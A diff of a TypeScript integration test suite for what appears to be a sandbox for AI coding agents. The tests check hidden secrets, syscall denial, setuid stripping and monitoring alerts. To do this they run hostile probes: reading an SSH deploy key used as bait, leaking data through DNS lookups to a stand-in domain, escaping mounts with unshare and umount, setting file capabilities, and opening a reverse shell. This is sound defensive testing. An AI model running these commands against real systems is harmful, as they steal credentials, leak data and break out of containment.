@@ -1,5 +1,5 @@
-// Goal: what the configuration hides, refuses and takes away holds in a session that the built program made.
-// Method: one session with everything on and one with it off, in workspaces alike; every probe in both.
+// Goal: settings that hide, deny and remove take effect in a session that the built program made.
+// Method: one session with everything on and one with it off, in equal workspaces; every probe in both.
 import assert from 'node:assert/strict';
 import { chown, readFile, rm, stat, writeFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
@@ -7,11 +7,11 @@ import { after, before, test } from 'node:test';
 import { coidSocketPath, openCoid } from '../../src/coid-api/client.ts';
 import { type Bed, makeBed } from '../bed/bed.ts';
 import { Lifecycle } from '../bed/events.ts';
-import { untilWritten } from '../bed/gone.ts';
-import { pace } from '../bed/pace.ts';
-import { attacker } from './attacker.ts';
+import { slowdown } from '../bed/slowdown.ts';
+import { untilWritten } from '../bed/until.ts';
+import { startAttacker } from './attacker.ts';
 import { untilAudited } from './audited.ts';
-import { deniedCalls, waysToHidden } from './probes.ts';
+import { deniedCalls, hiddenFileProbes } from './probes.ts';
 
 const timeout = 120_000;
 const hidden = `
@@ -42,13 +42,13 @@ before(async () => {
   elsewhere = other.stdout.trim();
   for (const top of [bed.workspace.path, elsewhere]) {
     for (const path of ['.env', 'deep/down/server.pem', 'keys/one', 'conf/token', 'one', 'plain'])
-      await mine(join(top, path), `${secret}\n`);
+      await writeAsUser(join(top, path), `${secret}\n`);
     await bed.user.run(['ln', '-s', 'conf', join(top, 'config')]);
     await bed.user.run(['ln', '-s', 'one', join(top, '.linked')]);
   }
   open = await session('[network]\nmode = "open"\n', elsewhere);
-  // A moment before the session, so none of its changes.
-  await mine(join(bed.workspace.path, 'Makefile'), 'all:\n');
+  // Just before the session, so none of its changes.
+  await writeAsUser(join(bed.workspace.path, 'Makefile'), 'all:\n');
   guarded = await session(hidden, bed.workspace.path);
 });
 after(async () => {
@@ -57,27 +57,27 @@ after(async () => {
   await rm(elsewhere, { recursive: true, force: true });
 });
 
-test('what is hidden is empty for the agent and for root, whatever way they take; without it each way reads it', {
+test('hidden paths are empty for agent and root by every route; without hiding each route reads them', {
   timeout,
 }, async () => {
-  // Root of a namespace of users of its own would have no rights to the agent's directory.
+  // Root of its own user namespace would have no access to the agent's directory.
   const own = 'own="unshare -Urm"; [ $(id -u) = 0 ] && own="unshare -m"';
-  const script = Object.values(waysToHidden).map((way) => `(${way}) 2>/dev/null; echo "#next"`);
+  const script = Object.values(hiddenFileProbes).map((way) => `(${way}) 2>/dev/null; echo "#next"`);
   for (const user of [1000, 0]) {
-    const [bare, held] = await Promise.all(
+    const [bare, secured] = await Promise.all(
       [open, guarded].map(async (one) =>
         (await sh(one, [own, ...script].join('\n'), user)).stdout.split('#next'),
       ),
     );
-    Object.keys(waysToHidden).forEach((name, index) => {
+    Object.keys(hiddenFileProbes).forEach((name, index) => {
       assert.match(bare?.[index] ?? '', new RegExp(secret), `${name}, as ${user}, not hidden`);
-      assert.doesNotMatch(held?.[index] ?? secret, new RegExp(secret), `${name}, as ${user}`);
+      assert.doesNotMatch(secured?.[index] ?? secret, new RegExp(secret), `${name}, as ${user}`);
     });
   }
   assert.equal((await sh(guarded, 'cat /workspace/plain', 1000)).stdout.trim(), secret);
 });
 
-test('the user on the host reads and writes what is hidden, and the agent cannot write it', {
+test('the host user can read and write hidden files, and the agent cannot write them', {
   timeout,
 }, async () => {
   const path = join(bed.workspace.path, '.env');
@@ -103,13 +103,15 @@ test('denied system calls do not exist inside; without the list they do', { time
   assert.match((await sh(guarded, 'systemctl is-system-running', 0)).stdout, /running|degraded/);
 });
 
-test('without Docker there is no nesting', { timeout }, async () => {
+test('without Docker nesting is off', { timeout }, async () => {
   const nested = 'unshare -Urmpf sh -c "mount -t proc proc /proc"';
   assert.equal((await sh(open, nested, 0)).status, 0);
   assert.notEqual((await sh(guarded, nested, 0)).status, 0);
 });
 
-test('setuid, setgid and capabilities are told while the session runs', { timeout }, async () => {
+test('setuid, setgid and capabilities are reported while the session runs', {
+  timeout,
+}, async () => {
   const capabilities =
     'my $v = pack("V5", 0x02000001, 0x400, 0, 0, 0); my ($p, $n) = ("capable", "security.capability"); exit(syscall(188, $p, $n, $v, 20, 0) == 0 ? 0 : 1)';
   const made = await sh(
@@ -121,8 +123,8 @@ test('setuid, setgid and capabilities are told while the session runs', { timeou
   const own =
     'cd /workspace; cp /bin/true by-agent; chmod 4755 by-agent; mkdir -p .github/workflows; echo x > .github/workflows/ci.yml';
   assert.equal((await sh(guarded, own, 1000)).status, 0);
-  const said = await bed.coi(['handoff', '--json']);
-  const found = JSON.parse(said.stdout).files.map(({ path }: { path: string }) => path);
+  const result = await bed.coi(['handoff', '--json']);
+  const found = JSON.parse(result.stdout).files.map(({ path }: { path: string }) => path);
   for (const path of ['by-agent', 'by-root', '.github/workflows/ci.yml'])
     assert.ok(found.includes(path), `${path} in ${found}`);
   const mode = async (name: string) =>
@@ -130,17 +132,17 @@ test('setuid, setgid and capabilities are told while the session runs', { timeou
   assert.deepEqual([await mode('by-agent'), await mode('by-root')], ['4755', '6755']);
 });
 
-test('whoever opens bait is paused, and so is who asks for names that carry data out', {
+test('opening a decoy file pauses the session, and so do DNS queries that carry data out', {
   timeout,
 }, async () => {
   const coid = openCoid({ socketPath: coidSocketPath(bed.env) });
-  // By then it looks into what is watched.
-  await untilAudited(coid, guarded, ({ title }) => title === 'Program with foreign rights made');
+  // By then it monitors the session.
+  await untilAudited(coid, guarded, ({ title }) => title === 'Privileged program created');
   let pauses = 0;
   for (const [title, script] of [
-    ['Bait taken', 'cat ~/.ssh/id_ed25519_deploy > /dev/null'],
+    ['Bait file accessed', 'cat ~/.ssh/id_ed25519_deploy > /dev/null'],
     [
-      'Data in questions for names',
+      'Data in DNS queries',
       'for i in 1 2 3 4 5 6; do getent hosts $i$(head -c 25 /dev/urandom | od -An -tx1 | tr -d " \\n").t.example.invalid; done; true',
     ],
   ] as const) {
@@ -150,24 +152,24 @@ test('whoever opens bait is paused, and so is who asks for names that carry data
     await paused;
     const found = await untilAudited(coid, guarded, (record) => record.title === title);
     assert.equal(found.action, 'paused');
-    const said = await bed.coi(['list']);
-    assert.match(said.stdout, new RegExp(`PAUSED: ${title}`));
-    // Bare: all that are paused.
+    const result = await bed.coi(['list']);
+    assert.match(result.stdout, new RegExp(`PAUSED: ${title}`));
+    // Without a name: all paused ones.
     assert.match((await bed.coi(['unfreeze'])).stdout, new RegExp(guarded));
     await untilAudited(coid, guarded, ({ action }) => action === 'unfrozen');
   }
-  // The same in a session that is not watched is nothing.
+  // In an unmonitored session the same is not reported.
   assert.equal((await sh(open, 'ls -a ~/.ssh; true', 1000)).stdout.includes('deploy'), false);
 });
 
-test('a device file cannot be made in the workspace, by nobody', { timeout }, async () => {
+test('a device file cannot be created in the workspace by any user', { timeout }, async () => {
   for (const one of [open, guarded])
     for (const kind of ['c 1 3', 'b 7 0'])
       assert.notEqual((await sh(one, `mknod /workspace/device ${kind}`, 0)).status, 0, kind);
   assert.equal((await sh(open, 'mknod /workspace/pipe p', 0)).status, 0);
 });
 
-test("the container's root can take no cover away: not by umount, not by a detached tree, not by a rename", {
+test('container root cannot remove a cover with umount, a detached tree or a rename', {
   timeout,
 }, async () => {
   const attacks = [
@@ -182,7 +184,7 @@ test("the container's root can take no cover away: not by umount, not by a detac
     const { stdout } = await sh(guarded, attack, 0);
     assert.doesNotMatch(stdout, new RegExp(secret), attack);
   }
-  // The control: what is not hidden is read from the detached tree.
+  // Control: files that are not hidden can be read from the detached tree.
   const bare = await sh(
     open,
     'exec 9</workspace; unshare -m sh -c "umount -l /workspace; cd /proc/self/fd/9; cat .env"',
@@ -191,30 +193,30 @@ test("the container's root can take no cover away: not by umount, not by a detac
   assert.match(bare.stdout, new RegExp(secret), bare.stderr);
 });
 
-test('at the end they are taken away, and told with everything else that the host would run', {
+test('setuid bits are stripped at the end, and reported with other files that the host would run', {
   timeout,
 }, async () => {
-  const said = await bed.coi(['shutdown', guarded]);
-  assert.equal(said.status, 0, said.stderr);
+  const result = await bed.coi(['shutdown', guarded]);
+  assert.equal(result.status, 0, result.stderr);
   for (const line of [
-    /by-agent - it had setuid, which coi took away/,
-    /by-root - it had setuid, setgid, which coi took away/,
-    /capable - it had capabilities, which coi took away/,
+    /by-agent - it had setuid, which coi removed/,
+    /by-root - it had setuid, setgid, which coi removed/,
+    /capable - it had capabilities, which coi removed/,
     /ci\.yml - the build server runs it/,
   ])
-    assert.match(said.stderr, line);
-  assert.doesNotMatch(said.stderr, /Makefile/);
+    assert.match(result.stderr, line);
+  assert.doesNotMatch(result.stderr, /Makefile/);
   for (const name of ['by-agent', 'by-root'])
     assert.equal((await stat(join(bed.workspace.path, name))).mode & 0o6000, 0, name);
-  // It can be asked for afterwards as well.
+  // It can be queried afterwards too.
   assert.match((await bed.coi(['handoff'])).stdout, /by-agent +it had setuid/);
 });
 
-test('a reverse shell in a session on a terminal: paused within three seconds, said there, in the list and in the log; let go, it goes on', {
+test('a reverse shell on a terminal session is paused in three seconds, shown everywhere, and resumable', {
   timeout,
 }, async () => {
-  await using remote = await attacker();
-  await mine(
+  await using remote = await startAttacker();
+  await writeAsUser(
     join(bed.user.home, '.coi/config.toml'),
     `[network]\nmode = "open"\n[monitoring]\nenabled = true\nkill_grace_sec = 600\n[notify]\ncommand = ["sh", "-c", "id -u > $HOME/who; cat > $HOME/notified"]\n`,
   );
@@ -235,7 +237,7 @@ test('a reverse shell in a session on a terminal: paused within three seconds, s
   );
   await lifecycle.until('instance-paused', name);
   const tookMs = performance.now() - connectedMs;
-  assert.ok(tookMs < 3000 * (await pace()), `paused after ${Math.round(tookMs)} ms`);
+  assert.ok(tookMs < 3000 * (await slowdown()), `paused after ${Math.round(tookMs)} ms`);
   await shown;
   assert.match(
     screen.output(),
@@ -248,9 +250,9 @@ test('a reverse shell in a session on a terminal: paused within three seconds, s
   assert.equal((await readFile(join(bed.user.home, 'who'), 'utf8')).trim(), String(bed.user.uid));
   const listed = await bed.coi(['list'], { cwd: elsewhere });
   assert.match(listed.stdout, /PAUSED: Reverse shell/);
-  const told = await bed.coi(['audit', name], { cwd: elsewhere });
-  assert.match(told.stdout, new RegExp(`Reverse shell.*${ip}:${remote.port}`));
-  assert.match((await bed.coi(['audit', name, '--verify'])).stdout, /The log is whole/);
+  const reported = await bed.coi(['audit', name], { cwd: elsewhere });
+  assert.match(reported.stdout, new RegExp(`Reverse shell.*${ip}:${remote.port}`));
+  assert.match((await bed.coi(['audit', name, '--verify'])).stdout, /The log is intact/);
   const released = await bed.coi(['unfreeze', name], { cwd: elsewhere });
   assert.equal(released.status, 0, released.stderr);
   screen.type('echo "goes $((40 + 2))"\r');
@@ -261,12 +263,12 @@ test('a reverse shell in a session on a terminal: paused within three seconds, s
   );
 });
 
-/** A background session under that configuration; its container's name. */
+/** Starts a background session with that configuration; returns its container's name. */
 async function session(config: string, workspace: string): Promise<string> {
-  await mine(join(bed.user.home, '.coi/config.toml'), config);
+  await writeAsUser(join(bed.user.home, '.coi/config.toml'), config);
   const known = await bed.instances();
-  const said = await bed.coi(['shell', '--image', bed.image, '--background'], { cwd: workspace });
-  assert.equal(said.status, 0, said.stderr);
+  const result = await bed.coi(['shell', '--image', bed.image, '--background'], { cwd: workspace });
+  assert.equal(result.status, 0, result.stderr);
   const [name] = (await bed.instances()).filter((one) => !known.includes(one));
   assert.ok(name);
   return name;
@@ -281,7 +283,7 @@ async function sh(container: string, script: string, user: number) {
   return { status, stdout: stdout.toString(), stderr: stderr.toString() };
 }
 
-async function mine(path: string, text: string): Promise<void> {
+async function writeAsUser(path: string, text: string): Promise<void> {
   await bed.user.run(['mkdir', '-p', dirname(path)]);
   await writeFile(path, text);
   await chown(path, bed.user.uid, bed.user.gid);
